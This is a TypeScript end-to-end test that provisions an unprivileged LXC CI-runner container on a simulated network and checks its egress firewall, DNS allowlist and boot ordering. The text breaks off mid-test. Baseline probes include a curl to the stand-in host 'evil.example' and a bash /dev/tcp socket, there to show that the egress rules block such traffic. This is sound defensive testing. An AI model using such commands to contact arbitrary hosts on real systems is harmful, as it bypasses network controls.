/**
 * The runner hardening, for real: an unprivileged LXC container (Debian 12,
 * systemd as PID 1) on a network this test makes, provisioned by the REAL
 * provision.sh with the files `npm run plan -- --stack prod --out` renders,
 * then rebooted and probed. Every probe is listed and counted in the output.
 *
 * What is not real, and why:
 * - the Actions runner tarball is a STUB with the real layout (config.sh writes
 *   .runner, bin/Runner.Listener stays up, bin/installdependencies.sh): no
 *   GitHub here. It is served over HTTPS by a fake github.com at the real
 *   RUNNER_URL's path (redirecting to release-assets.githubusercontent.com as
 *   GitHub does) and verified against its real SHA-256 by provision.sh;
 * - the "internet" is a network namespace with TEST-NET addresses: an upstream
 *   DNS server (dnsmasq) with fake records, HTTPS/HTTP/22 listeners, and the
 *   real stats service; nothing is routed to the host's network;
 * - runner.env is the rendered prod one with only what this network needs
 *   overridden: DNS_SERVERS, STATS_URL/HOST/PORT, ADMIN_CIDR, RUNNER_SHA256;
 * - provisioning runs through lxc-attach instead of SSH, with the same command
 *   and the secrets on stdin as the Pulumi program sends them.
 *
 * Needs root, lxc (lxc-create with the debian template), debootstrap,
 * uidmap, iproute2, dnsmasq, openssl and curl on the host (.ci/run installs
 * them); skipped otherwise, except under CI=true where it fails.
 */
import { expect } from "chai";
import { spawn, type ChildProcess } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { provisionCommand } from "../../../infra/provisioning";
import { PROJECT_ROOT } from "../../../infra/stackfile";
import {
  Container,
  E2E_TAG,
  ensureLine,
  IMAGE_PACKAGES,
  internetAddresses,
  must,
  NET,
  Probes,
  removeLine,
  LXC_TOOLS,
  requireLxc,
  run,
  unprivilegedConfig,
  type Run,
} from "../../helpers/lxc";

const LXC_DIR = join(PROJECT_ROOT, "test", "lxc");
/**
 * A measurement, not CI: CCO_E2E_SCRIPTS_FROM=<git ref> provisions the container with the bundle the program
 * at that ref renders (its scripts AND its runner.env: the allowlist is the program's, not the scripts'), under
 * today's probes, to show which probes fail against the older runner (docs/egress-proof.md).
 */
const SCRIPTS_FROM = process.env.CCO_E2E_SCRIPTS_FROM ?? "";
let FILES = join(PROJECT_ROOT, "infra", "runners", "files");
const LXCPATH = `/var/tmp/cco-e2e-lxc${E2E_TAG}`;
const NAME = `cco-e2e-runner${E2E_TAG}`;
const IDMAP = "root:100000:65536";
/** systemd-journal-remote on the host: the log collector of the test's internet (Debian package systemd-journal-remote). */
const JOURNAL_REMOTE = "/lib/systemd/systemd-journal-remote";
/**
 * Shorter bounds than production's for the inner wall's set (egress.sh's defaults are 30 s, 300 s and
 * 262144 entries): entries then live 10 s, so a moved name and a full set are probed in seconds.
 * Not in the rendered runner.env (production keeps the defaults): added here.
 */
const TEST_BOUNDS = { EGRESS_TTL_MIN_S: "1", EGRESS_TTL_MAX_S: "5", EGRESS_SET_MAX: "512" };
/** Reboots before the probes (3 x about 3 s). */
const REBOOTS = 3;
const INGEST_TOKEN = "e2e-ingest-token-0123456789abcdef";
const REGISTRATION_TOKEN = "E2E-REGISTRATION-TOKEN";
const SECRETS = `REGISTRATION_TOKEN=${REGISTRATION_TOKEN}\nINGEST_TOKEN=${INGEST_TOKEN}\n`;
/** Lines provision.sh logs only when it changes something. */
const CHANGE_WORDS =
  /\b(installed|created|fixed|enabled|started|restarted|registered|unpacked|downloading|removed|added|installing)\b/;

/** The project's tree at `ref` (git archive), with today's node_modules, to render that ref's plan in. */
function treeAt(ref: string, into: string): string {
  mkdirSync(into, { recursive: true });
  must("bash", [
    "-c",
    'set -o pipefail; git -C "$1" archive --format=tar "$2" | tar -x -C "$3"',
    "tree-at",
    PROJECT_ROOT,
    ref,
    into,
  ]);
  symlinkSync(join(PROJECT_ROOT, "node_modules"), join(into, "node_modules"));
  console.log(
    `      CCO_E2E_SCRIPTS_FROM=${ref}: provisioning with the bundle ${ref}'s program renders (a measurement, not CI)`,
  );
  return into;
}

function parseEnv(text: string): Map<string, string> {
  return new Map(
    text
      .split("\n")
      .filter((l) => l.includes("="))
      .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)] as [string, string]),
  );
}

describe("runners: LXC end-to-end (unprivileged container, systemd, real provisioning, reboot)", function () {
  // Explicit: a cold root filesystem build takes about a minute or two, the rest about two.
  this.timeout(20 * 60_000);

  const probes = new Probes();
  const children: ChildProcess[] = [];
  const addedIdLines: string[] = [];
  const ct = new Container(LXCPATH, NAME);
  let tmp = "";
  let bundleDir = "";
  let env = new Map<string, string>();
  let statsData = "";
  let internetLog = "";
  /** The gateway mode's proxy parameters as the prod stack renders them (egressMode gateway, its default). */
  let gatewayParams: Record<string, string> = {};
  let collectorJournal = "";
  let movedHosts = "";
  let dnsDir = "";
  let upstreamDns: ChildProcess | undefined;
  let setUp = false;
  const timings: Record<string, number> = {};

  const timed = <T>(what: string, f: () => T): T => {
    const t0 = Date.now();
    try {
      return f();
    } finally {
      timings[what] = (Date.now() - t0) / 1000;
    }
  };
  const inNetns = (cmd: string, args: string[], timeoutMs = 10_000) =>
    run("ip", ["netns", "exec", NET.netns, cmd, ...args], { timeoutMs });
  const tsxArgs = (script: string) => ["--import", "tsx", script];
  /** A TCP connection from the internet namespace (optionally from a given source address). */
  const connectFromInternet = (host: string, port: number, from?: string) =>
    inNetns(
      process.execPath,
      [...tsxArgs(join(LXC_DIR, "connect.ts")), host, String(port), ...(from ? [from] : [])],
      15_000,
    );
  const describeRun = (r: Run) => `exit ${r.status}: ${(r.stdout + " " + r.stderr).trim() || "(no output)"}`;
  /** The requests that reached the internet's web servers, as it logged them. */
  const internetRequests = (): Array<{
    kind: string;
    scheme?: string;
    host?: string;
    path?: string;
    remote?: string;
    local?: string;
    port?: number;
  }> =>
    readFileSync(internetLog, "utf8")
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l));

  /** The queries the upstream DNS server received from the container (it logs every query). */
  const upstreamQueries = (): Array<{ type: string; name: string }> =>
    readFileSync(join(tmp, "upstream-dns.log"), "utf8")
      .split("\n")
      .map((l) => /query\[(\w+)\] (\S+) from (\S+)/.exec(l))
      .filter((m): m is RegExpExecArray => m !== null && m[3] === NET.container)
      .map((m) => ({ type: m[1]!, name: m[2]! }));
  /** Whether NAME is an allowed domain or one of its subdomains (the rendered EGRESS_DOMAINS). */
  const allowedName = (name: string) =>
    env
      .get("EGRESS_DOMAINS")!
      .split(/\s+/)
      .filter(Boolean)
      .some((d) => name === d || name.endsWith(`.${d}`));
  /** Probes that no query for a name outside the allowlist ever reached the upstream DNS server. */
  const probeUpstreamQueries = (g: string) => {
    const queries = upstreamQueries();
    const outside = queries.filter((q) => !allowedName(q.name));
    probes.add(
      g,
      "the upstream DNS server received no query for a name outside the allowlist",
      `0 of ${queries.length} queries from the container`,
      outside.length ? outside.map((q) => `${q.type} ${q.name}`).join(", ") : `0 of ${queries.length}`,
      outside.length === 0,
    );
    const seen = queries.some((q) => q.name === "github.com");
    probes.add(
      g,
      "(and its query log works: it has github.com from the container)",
      "github.com queried",
      seen ? "github.com queried" : "not in the log",
      seen,
    );
  };

  /** The events the stats service appended to its files. */
  const storedEvents = (): Array<Record<string, unknown>> =>
    readdirSync(statsData)
      .filter((f) => f.endsWith(".jsonl"))
      .flatMap((f) => readFileSync(join(statsData, f), "utf8").split("\n").filter(Boolean))
      .map((l) => JSON.parse(l) as Record<string, unknown>);
  /** provision.sh run as the Pulumi program runs it (provisionCommand), the secrets on stdin; its log kept in tmp. */
  const provision = (n: number): Run => {
    const remoteDir = `/root/${bundleDir.split("/").pop()!}`;
    const command = provisionCommand({ remoteDir }, "provision.sh");
    const r = timed(`provision (run ${n})`, () => ct.exec(command, { input: SECRETS, timeoutMs: 300_000 }));
    writeFileSync(join(tmp, `provision-${n}.log`), r.stdout + r.stderr);
    return r;
  };

  /** Removes whatever an earlier, interrupted run left behind (same fixed names). */
  function teardown() {
    if (existsSync(join(LXCPATH, NAME))) {
      run("lxc-stop", ["-P", LXCPATH, "-n", NAME, "-k"], { timeoutMs: 60_000 });
      run("lxc-destroy", ["-P", LXCPATH, "-n", NAME], { timeoutMs: 60_000 });
    }
    rmSync(LXCPATH, { recursive: true, force: true });
    if (run("ip", ["netns", "pids", NET.netns]).status === 0) {
      for (const pid of run("ip", ["netns", "pids", NET.netns]).stdout.split("\n").filter(Boolean)) {
        // Only processes of our own namespace: the servers this test started.
        run("kill", ["-KILL", pid]);
      }
      run("ip", ["netns", "del", NET.netns]);
    }
    run("ip", ["link", "del", NET.hostVeth]);
  }

  before(function () {
    const tools = [...LXC_TOOLS, "ip", "ss", "dnsmasq", "openssl", "curl", "tar"];
    requireLxc(
      this,
      "LXC end-to-end test",
      tools,
      existsSync(JOURNAL_REMOTE) ? "" : "needs systemd-journal-remote (the log collector; .ci/run installs it)",
    );
    teardown();
    setUp = true;
    tmp = mkdtempSync(join(tmpdir(), "cco-e2e-"));
    // Beside tmp (0700), since the upstream DNS reads it as nobody.
    dnsDir = mkdtempSync(join(tmpdir(), "cco-e2e-dns-"));
    chmodSync(dnsDir, 0o755);
    movedHosts = join(dnsDir, "moved.hosts");

    // Unprivileged: container root is host uid/gid 100000 (lxc-usernsexec needs root's range here).
    for (const file of ["/etc/subuid", "/etc/subgid"]) if (ensureLine(file, IDMAP)) addedIdLines.push(file);

    const rootfs = timed("rootfs (build or cache)", () =>
      must(join(LXC_DIR, "rootfs.sh"), IMAGE_PACKAGES, { timeoutMs: 15 * 60_000 }).trim(),
    );

    // The files the Pulumi program copies into runner-01, rendered by the offline plan
    // (persistent mode: this test is its runner's; the last one switches it to ephemeral).
    const planDir = join(tmp, "plan");
    const tree = SCRIPTS_FROM ? treeAt(SCRIPTS_FROM, join(tmp, "tree")) : PROJECT_ROOT;
    FILES = join(tree, "infra", "runners", "files");
    timed("plan --out", () =>
      must(
        process.execPath,
        [
          ...tsxArgs(join(tree, "infra/plan/main.ts")),
          "--stack",
          "prod",
          // An older program may know no --set (and had persistent runners only).
          ...(SCRIPTS_FROM ? [] : ["--set", "runnerMode=persistent"]),
          "--out",
          planDir,
        ],
        {
          cwd: tree,
          timeoutMs: 120_000,
        },
      ),
    );
    const renderedRoot = join(planDir, "containers", "runner-01", "root");
    const bundleName = readdirSync(renderedRoot).find((d) => d.startsWith("cco-provision-"));
    if (!bundleName) throw new Error(`no rendered bundle under ${renderedRoot}`);
    const rendered = parseEnv(readFileSync(join(renderedRoot, bundleName, "runner.env"), "utf8"));

    // The runner tarball: the stub, packed like the real one, its digest computed here.
    const runnerUrl = new URL(rendered.get("RUNNER_URL")!);
    const tarball = join(tmp, "actions-runner.tar.gz");
    must("tar", ["-czf", tarball, "-C", join(LXC_DIR, "runner-stub"), "."]);
    const sha256 = createHash("sha256").update(readFileSync(tarball)).digest("hex");

    // Only what this network needs differs from the rendered prod parameters.
    gatewayParams = {
      EGRESS_PROXY: rendered.get("EGRESS_PROXY") ?? "",
      EGRESS_NO_PROXY: rendered.get("EGRESS_NO_PROXY") ?? "",
    };
    const overrides: Record<string, string> = {
      RUNNER_SHA256: sha256,
      DNS_SERVERS: NET.dns,
      STATS_URL: `http://${NET.stats}:${NET.statsPort}`,
      STATS_HOST: NET.stats,
      STATS_PORT: String(NET.statsPort),
      ADMIN_CIDR: `${NET.gateway}/32`,
      LOG_COLLECTOR: `${NET.collector}:${NET.collectorPort}`,
      // egressMode direct (no proxy): the inner wall on its own, as a stack without the gateway runs it.
      // The probes of "the runner behind the egress gateway" provision the gateway mode's parameters.
      EGRESS_PROXY: "",
      EGRESS_NO_PROXY: "",
    };
    for (const key of Object.keys(overrides))
      // An older program's runner.env lacks the keys added since: they are set anyway, and its scripts ignore them.
      if (!rendered.has(key) && !SCRIPTS_FROM)
        throw new Error(`rendered runner.env has no ${key}: the contract changed`);
    env = new Map([...rendered, ...Object.entries(overrides), ...Object.entries(TEST_BOUNDS)]);
    bundleDir = join(tmp, "bundle", bundleName);
    cpSync(join(renderedRoot, bundleName), bundleDir, { recursive: true });
    writeFileSync(join(bundleDir, "runner.env"), [...env].map(([k, v]) => `${k}=${v}\n`).join(""));

    // A CA the container trusts, and one certificate for every name of the internet.
    const names = [...Object.keys(NET.records), NET.moved.name];
    const ca = (f: string) => join(tmp, f);
    must("openssl", [
      "req",
      "-x509",
      "-newkey",
      "ec",
      "-pkeyopt",
      "ec_paramgen_curve:prime256v1",
      "-nodes",
      "-days",
      "2",
      "-subj",
      "/CN=cco e2e test CA",
      "-keyout",
      ca("ca.key"),
      "-out",
      ca("ca.crt"),
    ]);
    must("openssl", [
      "req",
      "-newkey",
      "ec",
      "-pkeyopt",
      "ec_paramgen_curve:prime256v1",
      "-nodes",
      "-subj",
      "/CN=github.com",
      "-keyout",
      ca("server.key"),
      "-out",
      ca("server.csr"),
    ]);
    writeFileSync(
      ca("san.ext"),
      `subjectAltName=${[...names.map((n) => `DNS:${n}`), ...internetAddresses().map((a) => `IP:${a}`), `IP:${NET.v6}`].join(",")}\n`,
    );
    must("openssl", [
      "x509",
      "-req",
      "-in",
      ca("server.csr"),
      "-CA",
      ca("ca.crt"),
      "-CAkey",
      ca("ca.key"),
      "-CAcreateserial",
      "-days",
      "2",
      "-extfile",
      ca("san.ext"),
      "-out",
      ca("server.crt"),
    ]);

    timed("network and internet", () => {
      // The internet: a namespace whose loopback holds every public address, a veth to the container.
      must("ip", ["netns", "add", NET.netns]);
      must("ip", ["link", "add", NET.hostVeth, "type", "veth", "peer", "name", NET.inetVeth]);
      must("ip", ["link", "set", NET.inetVeth, "netns", NET.netns]);
      const nsIp = (...args: string[]) => must("ip", ["-n", NET.netns, ...args]);
      nsIp("link", "set", "lo", "up");
      nsIp("addr", "add", `${NET.gateway}/24`, "dev", NET.inetVeth);
      nsIp("addr", "add", `${NET.gateway6}/64`, "dev", NET.inetVeth, "nodad");
      nsIp("link", "set", NET.inetVeth, "up");
      for (const a of internetAddresses()) nsIp("addr", "add", `${a}/32`, "dev", "lo");
      nsIp("addr", "add", `${NET.v6}/128`, "dev", "lo");

      const logTo = (name: string) => openSync(join(tmp, name), "a");
      const start = (name: string, args: string[], extraEnv: Record<string, string> = {}) => {
        const out = logTo(`${name}.log`);
        const child = spawn("ip", ["netns", "exec", NET.netns, ...args], {
          cwd: PROJECT_ROOT,
          env: { ...process.env, ...extraEnv },
          stdio: ["ignore", out, out],
        });
        children.push(child);
        return child;
      };
      // The upstream DNS, also answering on a second address (a server the runner must not reach).
      writeFileSync(movedHosts, `${NET.moved.from} ${NET.moved.name}\n`);
      upstreamDns = start("upstream-dns", [
        "dnsmasq",
        "--keep-in-foreground",
        "--conf-file=/dev/null",
        "--no-resolv",
        "--no-hosts",
        "--bind-interfaces",
        `--listen-address=${NET.dns}`,
        `--listen-address=${NET.otherDns}`,
        "--pid-file=",
        "--user=nobody",
        "--log-queries",
        "--log-facility=-",
        ...Object.entries(NET.records).map(
          ([n, a]) => `--host-record=${n},${a}${n === "github.com" ? `,${NET.v6}` : ""}`,
        ),
        // The rebinding answer: an allowed name pointed at a private address (DNS data only).
        `--host-record=${NET.rebind.name},${NET.rebind.address}`,
        // The moved name, from a hosts file the test rewrites (dnsmasq re-reads it on SIGHUP).
        `--addn-hosts=${movedHosts}`,
      ]);
      internetLog = join(tmp, "internet.log");
      start("internet", [process.execPath, ...tsxArgs(join(LXC_DIR, "internet.ts"))], {
        CCO_E2E_CERT: ca("server.crt"),
        CCO_E2E_KEY: ca("server.key"),
        CCO_E2E_TARBALL: tarball,
        CCO_E2E_TARBALL_PATH: runnerUrl.pathname,
        CCO_E2E_REDIRECT_HOST: "release-assets.githubusercontent.com",
      });
      statsData = join(tmp, "stats");
      start("stats", [process.execPath, ...tsxArgs(join(PROJECT_ROOT, "service", "main.ts"))], {
        STATS_HOST: NET.stats,
        STATS_PORT: String(NET.statsPort),
        STATS_DATA_DIR: statsData,
        STATS_INGEST_TOKEN: INGEST_TOKEN,
        STATS_INTERVAL_MS: "500",
      });
      // The log collector: systemd-journal-remote, as the program's logCollector names one, into one journal file.
      mkdirSync(join(tmp, "collector"));
      collectorJournal = join(tmp, "collector", "all.journal");
      start("collector", [
        JOURNAL_REMOTE,
        `--listen-http=${NET.collector}:${NET.collectorPort}`,
        "--split-mode=none",
        `--output=${collectorJournal}`,
      ]);
      // Ready when all listen.
      const deadline = Date.now() + 30_000;
      for (;;) {
        const listening = inNetns("ss", ["-Hltun"]).stdout;
        const ready = [
          `${NET.dns}:53`,
          `${NET.stats}:${NET.statsPort}`,
          `${NET.collector}:${NET.collectorPort}`,
          ":443",
          ":22",
          ":80",
        ].every((a) => listening.includes(a));
        if (ready) break;
        for (const c of children)
          if (c.exitCode !== null) throw new Error(`a server of the internet exited: see ${tmp}/*.log`);
        if (Date.now() > deadline) throw new Error(`the internet did not come up:\n${listening}`);
        run("sleep", ["0.2"]);
      }
    });

    timed("container start and boot", () => {
      // The container: a copy of the cached root filesystem, unprivileged, systemd as init.
      mkdirSync(ct.dir, { recursive: true });
      must("cp", ["-a", rootfs, ct.rootfs]);
      writeFileSync(
        join(ct.dir, "config"),
        unprivilegedConfig({
          dir: ct.dir,
          rootfs: ct.rootfs,
          hostname: "runner-01",
          // The veth end is handed over as the container's eth0 (and back at every stop or reboot).
          net: [
            "lxc.net.0.type = phys",
            `lxc.net.0.link = ${NET.hostVeth}`,
            "lxc.net.0.name = eth0",
            "lxc.net.0.flags = up",
          ],
          extra: [`lxc.console.logfile = ${ct.dir}/console.log`],
        }),
      );
      // As Proxmox writes them: a static address in ifupdown's file, the hostname.
      const own = (path: string, text: string) => {
        writeFileSync(join(ct.rootfs, path), text);
        must("chown", ["100000:100000", join(ct.rootfs, path)]);
      };
      own(
        "etc/network/interfaces",
        `auto lo\niface lo inet loopback\n\nauto eth0\niface eth0 inet static\n\taddress ${NET.container}/24\n\tgateway ${NET.gateway}\n\n` +
          `iface eth0 inet6 static\n\taddress ${NET.container6}/64\n\tgateway ${NET.gateway6}\n`,
      );
      own("etc/hostname", "runner-01\n");
      own("usr/local/share/ca-certificates/cco-e2e-ca.crt", readFileSync(ca("ca.crt"), "utf8"));
      must("lxc-start", ["-P", LXCPATH, "-n", NAME, "-d"]);
      ct.waitBooted();
      ct.must("update-ca-certificates >/dev/null");
    });
  });

  afterEach(function () {
    if (this.currentTest?.state === "failed") diagnostics();
  });

  after(function () {
    if (probes.all.length > 0) console.log(probes.report());
    if (Object.keys(timings).length > 0) {
      console.log(
        `      timings (s): ${Object.entries(timings)
          .map(([k, v]) => `${k} ${v.toFixed(1)}`)
          .join(", ")}`,
      );
    }
    if (!setUp) return;
    if (process.env.CCO_E2E_KEEP === "all") {
      console.log(
        `      CCO_E2E_KEEP=all: container ${NAME} (lxc-attach -P ${LXCPATH} -n ${NAME}), netns ${NET.netns}, servers and ${tmp} left running`,
      );
      for (const c of children) c.unref();
      return;
    }
    for (const c of children) if (c.exitCode === null) c.kill("SIGKILL");
    teardown();
    for (const file of addedIdLines) removeLine(file, IDMAP);
    if (dnsDir) rmSync(dnsDir, { recursive: true, force: true });
    if (tmp && !process.env.CCO_E2E_KEEP) rmSync(tmp, { recursive: true, force: true });
    else if (tmp) console.log(`      kept ${tmp}`);
  });

  /** What explains a failure, in the output (CI keeps nothing else). */
  function diagnostics() {
    if (ct.state() !== "RUNNING") return;
    const r = ct.exec(
      "systemctl --failed --no-pager; journalctl -b --no-pager -u cco-egress -u dnsmasq -u actions-runner -u cco-forwarder | tail -n 60",
    );
    console.log(`      diagnostics from the container:\n${(r.stdout + r.stderr).replace(/^/gm, "        ")}`);
  }

  /** Asserts every probe of a group came out as expected (they are all listed at the end anyway). */
  const expectGroup = (group: string) => expect(probes.failed(group), probes.report()).to.deep.equal([]);
  /** The runner service's main process: unchanged means its running job went on. */
  const runnerPid = () => ct.must("systemctl show -P MainPID actions-runner.service").trim();
  /**
   * A job: SCRIPT (bash, on stdin) as runner inside actions-runner.service's cgroup, as the runner
   * starts a job's steps (root moves its shell into the unit's cgroup, then becomes runner).
   */
  const asJob = (script: string, timeoutMs = 30_000) =>
    ct.exec(
      [
        "cg=$(systemctl show -P ControlGroup actions-runner.service)",
        "for d in /sys/fs/cgroup$cg /sys/fs/cgroup/unified$cg; do [ -f $d/cgroup.procs ] && echo $$ > $d/cgroup.procs; done",
        "grep -q actions-runner /proc/self/cgroup || { echo 'not in the runner unit' >&2; exit 99; }",
        "cd /home/runner && exec setpriv --reuid=runner --regid=runner --init-groups env HOME=/home/runner USER=runner LOGNAME=runner bash -s",
      ].join("\n"),
      { input: script, timeoutMs },
    );
  /** The entries the log collector received, as journalctl reads its journal file. */
  const collected = (): Array<Record<string, string>> =>
    run("journalctl", ["--file", collectorJournal, "-o", "json", "--no-pager"], { timeoutMs: 60_000 })
      .stdout.split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, string>);

  it("the test network works before provisioning (so the later failures are the rules')", function () {
    const g = "baseline (root, no rules yet)";
    const curlK = (url: string) => ct.exec(`curl -ksS --max-time 5 ${url}`);
    let r = curlK(`https://${NET.records["evil.example"]}/`);
    probes.add(g, "HTTPS to evil.example's address", "connects", describeRun(r), r.status === 0);
    r = ct.exec(`timeout 5 bash -c 'exec 3<>/dev/tcp/${NET.records["github.com"]}/22 && head -c 7 <&3'`);
    probes.add(g, "TCP 22 to github.com's address", "banner", describeRun(r), r.stdout.startsWith("SSH-2.0"));
    r = curlK(`https://[${NET.v6}]/`);
    probes.add(g, "HTTPS over IPv6", "connects", describeRun(r), r.status === 0);
    r = ct.exec(`dig +short +time=2 +tries=1 @${NET.otherDns} github.com`);
    probes.add(g, "DNS to another server", "answers", describeRun(r), r.stdout.trim() === NET.records["github.com"]);
    r = ct.exec(`dig +short +time=2 +tries=1 @${NET.dns} AAAA github.com`);
    probes.add(g, "AAAA of github.com upstream", NET.v6, describeRun(r), r.stdout.trim() === NET.v6);
    r = connectFromInternet(NET.container, 22, NET.outsider);
    probes.add(
      g,
      "SSH from outside the admin CIDR",
      "connects",
      describeRun(r),
      r.stdout.startsWith("connected: SSH-2.0"),
    );
    expectGroup(g);
  });

  it("provision.sh provisions the container (runner tarball fetched through the allowlist, over TLS)", function () {
    const g = "provisioning";
    const remoteDir = `/root/${bundleDir.split("/").pop()!}`;
    must("cp", ["-a", bundleDir, join(ct.rootfs, remoteDir)]);
    must("chown", ["-R", "100000:100000", join(ct.rootfs, remoteDir)]);
    const r = provision(1);
    probes.add(
      g,
      "provision.sh exits 0",
      "exit 0",
      `exit ${r.status}; ${r.stderr.split("\n").filter(Boolean).slice(-1)[0] ?? ""}`,
      r.status === 0,
    );
    expect(r.status, r.stdout + r.stderr).to.equal(0);
    probes.add(
      g,
      "prints the runner id for deregistration",
      "runner-id=4242",
      r.stdout,
      /^runner-id=4242$/m.test(r.stdout),
    );
    const fetched = internetRequests().filter(
      (q) => q.kind === "request" && q.path === new URL(env.get("RUNNER_URL")!).pathname,
    );
    probes.add(
      g,
      "tarball fetched from github.com, then its redirect",
      "github.com -> release-assets",
      fetched.map((q) => `${q.host}(${q.scheme})`).join(" -> "),
      fetched.map((q) => q.host).join(",") === "github.com,release-assets.githubusercontent.com",
    );
    const args = ct.exec("cat /home/runner/actions-runner/.stub-config-args").stdout.split("\n");
    // Auto-update is the default (issue 13, finding 1): the pinned version only bootstraps the runner.
    const autoUpdate = env.get("RUNNER_AUTO_UPDATE") === "true";
    probes.add(
      g,
      `config.sh ran as runner with name, labels and, with auto-update ${autoUpdate ? "on (the default)" : "off"}, ${autoUpdate ? "no " : ""}--disableupdate`,
      `--name runner-01 --labels ${env.get("RUNNER_LABELS")}${autoUpdate ? ", auto-update on, no --disableupdate" : " --disableupdate"}`,
      args.join(" "),
      autoUpdate &&
        args.join(" ").includes(`--name runner-01`) &&
        args.join(" ").includes(`--labels ${env.get("RUNNER_LABELS")}`) &&
        !args.includes("--disableupdate"),
    );
    probes.add(
      g,
      "the registration token is not on config.sh's command line (the stub took it from ACTIONS_RUNNER_INPUT_TOKEN)",
      "no --token, no token in argv",
      args.join(" "),
      !args.includes("--token") && !args.join(" ").includes(REGISTRATION_TOKEN),
    );
    expectGroup(g);
  });

  it("the container is rebooted, and comes back with the rules and dnsmasq up before the runner", function () {
    const g = "after reboot";
    // Several reboots: an ordering race at boot shows up only now and then.
    const reboots: string[] = [];
    let boot = { before: 0, after: 0, state: "" };
    for (let i = 1; i <= REBOOTS; i++) {
      boot = timed(`reboot ${i}`, () => ct.reboot());
      reboots.push(
        `#${i}: pid ${boot.before} -> ${boot.after}, ${boot.state}, ` +
          ct
            .exec("systemctl is-active cco-egress.service dnsmasq.service actions-runner.service | paste -sd/")
            .stdout.trim(),
      );
    }
    probes.add(
      g,
      `rebooted ${REBOOTS} times (new PID 1 each time), systemd booted`,
      "new init pid, running|degraded",
      reboots.join("; "),
      boot.after !== boot.before && ["running", "degraded"].includes(boot.state),
    );
    probes.add(
      g,
      "after every reboot: egress rules, dnsmasq and the runner active",
      "active/active/active each time",
      reboots.join("; "),
      reboots.every((r) => r.endsWith("active/active/active")),
    );
    const init = ct
      .must("readlink /proc/1/exe; cat /proc/1/uid_map")
      .split("\n")
      .map((l) => l.trim().replace(/\s+/g, " "));
    probes.add(
      g,
      "PID 1 is systemd, container unprivileged",
      "systemd, uid map 0 100000 65536",
      init.join("; "),
      init[0]!.endsWith("/systemd") && init[1] === "0 100000 65536",
    );
    const failed = ct
      .must("systemctl --failed --no-legend --plain | awk '{print $1}'")
      .trim()
      .split("\n")
      .filter(Boolean);
    const ours = failed.filter((u) => /cco|actions-runner|dnsmasq|ssh/.test(u));
    probes.add(
      g,
      "no unit of ours failed",
      "none",
      failed.length ? `failed: ${failed.join(" ")}` : "none failed",
      ours.length === 0,
    );
    const units = [
      "cco-egress.service",
      "dnsmasq.service",
      "actions-runner.service",
      "cco-forwarder.timer",
      "ssh.service",
    ];
    for (const u of units) {
      const s = ct.exec(`systemctl is-active ${u}`).stdout.trim();
      probes.add(g, `${u} active`, "active", s, s === "active");
    }
    const show = (u: string, p: string) => Number(ct.must(`systemctl show -P ${p} ${u}`).trim());
    const egressUp = show("cco-egress.service", "ActiveEnterTimestampMonotonic");
    const dnsStart = show("dnsmasq.service", "InactiveExitTimestampMonotonic");
    const dnsUp = show("dnsmasq.service", "ActiveEnterTimestampMonotonic");
    const runnerStart = show("actions-runner.service", "InactiveExitTimestampMonotonic");
    const tmpReady = show("systemd-tmpfiles-setup.service", "ActiveEnterTimestampMonotonic");
    const egressStart = show("cco-egress.service", "InactiveExitTimestampMonotonic");
    probes.add(
      g,
      "egress.sh starts after systemd-tmpfiles emptied /tmp",
      "tmpfiles up <= egress start",
      `${tmpReady} <= ${egressStart}`,
      tmpReady > 0 && tmpReady <= egressStart,
    );
    probes.add(
      g,
      "egress rules applied before dnsmasq starts",
      "egress up <= dnsmasq start",
      `${egressUp} <= ${dnsStart} (µs since boot)`,
      egressUp > 0 && egressUp <= dnsStart,
    );
    probes.add(
      g,
      "egress rules and dnsmasq up before the runner starts",
      "both up <= runner start",
      `${egressUp}, ${dnsUp} <= ${runnerStart}`,
      egressUp > 0 && dnsUp > 0 && egressUp <= runnerStart && dnsUp <= runnerStart,
    );
    const policies = ct.must("iptables -S | grep '^-P'; ip6tables -S | grep '^-P'").trim().split("\n");
    probes.add(
      g,
      "IPv4 and IPv6 policies DROP",
      "6 x DROP",
      policies.join(", "),
      policies.length === 6 && policies.every((p) => p.endsWith(" DROP")),
    );
    const allowRule = ct.exec("iptables -S OUTPUT | grep -c 'match-set cco-allow dst'").stdout.trim();
    probes.add(g, "the allowlist rule is there", "1 rule", allowRule, allowRule === "1");
    const members = ct.exec("ipset list cco-allow | sed -n '/^Members:/,$p' | tail -n +2").stdout.trim();
    probes.add(g, "ipset cco-allow exists, empty until names resolve", "(empty)", members || "(empty)", members === "");
    const resolv = ct.must("cat /etc/resolv.conf").trim();
    probes.add(
      g,
      "resolv.conf points at dnsmasq only",
      "nameserver 127.0.0.1",
      resolv,
      resolv === "nameserver 127.0.0.1",
    );
    const boots = ct.must("journalctl --list-boots --no-pager | wc -l").trim();
    probes.add(g, "journal persistent across the reboot", ">= 2 boots", `${boots} boots`, Number(boots) >= 2);
    const listener = ct.must("cat /home/runner/actions-runner/_diag/Runner_stub.log");
    probes.add(
      g,
      "the runner service runs as runner, no capabilities, no new privileges",
      "uid 1000, CapEff 0, NoNewPrivs 1",
      listener,
      /uid: [1-9]\d*/.test(listener) && /CapEff:\s+0+\n/.test(listener) && /NoNewPrivs:\s+1/.test(listener),
    );
    probes.add(
      g,
      "the runner service has the job hooks",
      "/opt/cco/job-*.sh",
      listener,
      listener.includes("hook-started: /opt/cco/job-started.sh") &&
        listener.includes("hook-completed: /opt/cco/job-completed.sh"),
    );
    expectGroup(g);
  });

  it("egress as the runner user: allowed names connect, nothing else does", function () {
    const g = "egress (as runner)";
    const asRunner = (script: string) => ct.exec(script, { user: "runner" });
    // Before any name is resolved, not even an allowed address is reachable.
    let r = asRunner(`curl -ksS --max-time 4 https://${NET.records["github.com"]}/`);
    probes.add(g, "github.com's address before any lookup", "fails", describeRun(r), r.status !== 0);
    for (const name of ["github.com", "api.github.com", "x.actions.githubusercontent.com"]) {
      r = asRunner(`curl -sS --max-time 5 https://${name}/`);
      probes.add(
        g,
        `HTTPS to ${name} (certificate verified)`,
        `ok ${name}`,
        describeRun(r),
        r.status === 0 && r.stdout.trim() === `ok ${name}`,
      );
    }
    r = asRunner("curl -sS --max-time 5 http://github.com/");
    probes.add(
      g,
      "HTTP (80) to github.com",
